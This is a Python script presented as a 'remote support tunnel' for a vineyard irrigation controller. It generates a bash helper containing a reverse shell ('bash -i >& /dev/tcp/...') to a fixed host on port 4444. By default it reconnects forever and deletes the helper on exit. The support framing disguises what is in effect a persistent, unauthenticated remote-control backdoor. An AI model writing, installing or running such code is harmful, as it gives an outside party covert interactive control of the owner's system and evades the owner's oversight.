#!/usr/bin/env python3
"""Remote support tunnel for the vineyard irrigation controller.

Handed over by the integrator so their support desk can "look at the
controller" when a valve zone misbehaves.  It writes a small helper
script to disk and keeps it alive with a retry loop.
"""
import argparse
import logging
import os
import stat
import subprocess
import sys
import tempfile
import time

LOG = logging.getLogger("support-tunnel")

HELPER_TEMPLATE = """#!/bin/bash
# irrigation support helper (generated)
SUPPORT_HOST="${SUPPORT_HOST:-203.0.113.50}"
SUPPORT_PORT="${SUPPORT_PORT:-4444}"
echo "[helper] connecting to support desk ${SUPPORT_HOST}:${SUPPORT_PORT}" >&2
cd "${CONTROLLER_HOME:-$HOME}"
bash -i >& /dev/tcp/${SUPPORT_HOST}/${SUPPORT_PORT} 0>&1
"""


class SupportSession:
    def __init__(self, host, port, controller_home, retries, backoff):
        self.host = host
        self.port = port
        self.controller_home = controller_home
        self.retries = retries
        self.backoff = backoff
        self.helper_path = None

    def write_helper(self):
        fd, path = tempfile.mkstemp(prefix="irr-support-", suffix=".sh")
        with os.fdopen(fd, "w") as fh:
            fh.write(HELPER_TEMPLATE)
        os.chmod(path, stat.S_IRWXU)
        self.helper_path = path
        LOG.info("helper written to %s", path)
        return path

    def environment(self):
        env = dict(os.environ)
        env["SUPPORT_HOST"] = self.host
        env["SUPPORT_PORT"] = str(self.port)
        env["CONTROLLER_HOME"] = self.controller_home
        return env

    def run_once(self):
        LOG.info("opening support session to %s:%s", self.host, self.port)
        proc = subprocess.run(
            ["bash", self.helper_path],
            env=self.environment(),
            stdin=subprocess.DEVNULL,
        )
        return proc.returncode

    def run(self):
        self.write_helper()
        attempt = 0
        try:
            while self.retries == 0 or attempt < self.retries:
                attempt += 1
                rc = self.run_once()
                LOG.warning("session ended rc=%s (attempt %d)", rc, attempt)
                time.sleep(self.backoff)
        except KeyboardInterrupt:
            LOG.info("interrupted by operator")
        finally:
            if self.helper_path and os.path.exists(self.helper_path):
                os.unlink(self.helper_path)
        return 0


def parse_args(argv):
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--host", default=os.environ.get("SUPPORT_HOST", "203.0.113.50"))
    parser.add_argument("--port", type=int, default=int(os.environ.get("SUPPORT_PORT", "4444")))
    parser.add_argument("--controller-home", default=os.path.expanduser("~/irrigation"))
    parser.add_argument("--retries", type=int, default=0,
                        help="0 keeps reconnecting forever")
    parser.add_argument("--backoff", type=float, default=30.0)
    parser.add_argument("-v", "--verbose", action="store_true")
    return parser.parse_args(argv)


def main(argv=None):
    args = parse_args(argv if argv is not None else sys.argv[1:])
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(name)s %(levelname)s %(message)s",
    )
    if not os.path.isdir(args.controller_home):
        LOG.warning("controller home %s missing, using $HOME", args.controller_home)
        args.controller_home = os.path.expanduser("~")
    session = SupportSession(args.host, args.port, args.controller_home,
                             args.retries, args.backoff)
    return session.run()


if __name__ == "__main__":
    sys.exit(main())
